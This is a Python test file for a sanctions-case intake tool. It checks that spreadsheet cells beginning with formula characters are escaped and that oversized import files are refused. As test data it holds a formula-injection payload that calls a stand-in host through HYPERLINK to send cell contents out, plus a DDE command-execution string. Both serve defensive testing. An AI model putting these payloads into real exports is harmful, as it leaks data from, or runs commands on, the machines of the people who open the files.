"""Outputs a spreadsheet opens never turn text into a formula, and import files are bounded."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sanctions.errors import InputError
from sanctions.intake import tables
from sanctions.intake.tables import CASE_LAYOUT, Problem, read_csv_text, read_table, write_rejects
from sanctions.reports.cells import FORMULA_STARTS, safe_cell

pytestmark = pytest.mark.pure

HEADER = "register_number,nip,contest_code,reported_on,act_date,violation_codes,description"
HOSTILE = '=HYPERLINK("http://x.example/?"&A1)'


@given(st.text())
def test_no_escaped_text_starts_a_formula_and_the_text_is_kept_behind_one_quote(
    text: str,
) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


def test_numbers_and_dates_are_written_as_they_are() -> None:
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("REG-1") == "REG-1"


def rejected(tmp_path: Path, suffix: str) -> Path:
    table = read_csv_text(f"{HEADER}\nREG-1,x,y,z,w,@SUM(1+1),{HOSTILE}\n", CASE_LAYOUT)
    row = table.rows[0]
    path = tmp_path / f"rejects{suffix}"
    write_rejects(path, table, [(row, [Problem(row.number, "nip", "-cmd|' /C calc'!A0")])])
    return path


def test_rejects_csv_cells_that_would_be_formulas_are_written_as_text(tmp_path: Path) -> None:
    with rejected(tmp_path, ".csv").open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["description"] == "'" + HOSTILE
    assert row["violation_codes"] == "'@SUM(1+1)"


def test_rejects_xlsx_cells_are_text_cells_never_formulas(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(rejected(tmp_path, ".xlsx"))
    cells = [c for line in book.worksheets[0].iter_rows(min_row=2) for c in line]
    assert {c.data_type for c in cells} == {"s"}
    assert HOSTILE in [c.value for c in cells]


def test_an_import_file_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as out:
        out.truncate(tables.MAX_FILE_BYTES + 1)  # sparse: costs no disk
    with pytest.raises(InputError, match="larger than 128 MiB"):
        read_table(path, CASE_LAYOUT)


def test_an_import_file_over_the_row_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "MAX_ROWS", 3)
    lines = [HEADER, *(f"REG-{i},a,b,c,d,e,f" for i in range(4))]
    with pytest.raises(InputError, match="more than 3 rows"):
        read_csv_text("\n".join(lines), CASE_LAYOUT)
    assert len(read_csv_text("\n".join(lines[:4]), CASE_LAYOUT).rows) == 3


def test_a_workbook_with_cells_past_the_column_limit_is_refused(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.cell(row=2, column=tables.MAX_COLUMNS + 1, value="x")
    book.save(tmp_path / "wide.xlsx")
    with pytest.raises(InputError, match="beyond column 64"):
        read_table(tmp_path / "wide.xlsx", CASE_LAYOUT)
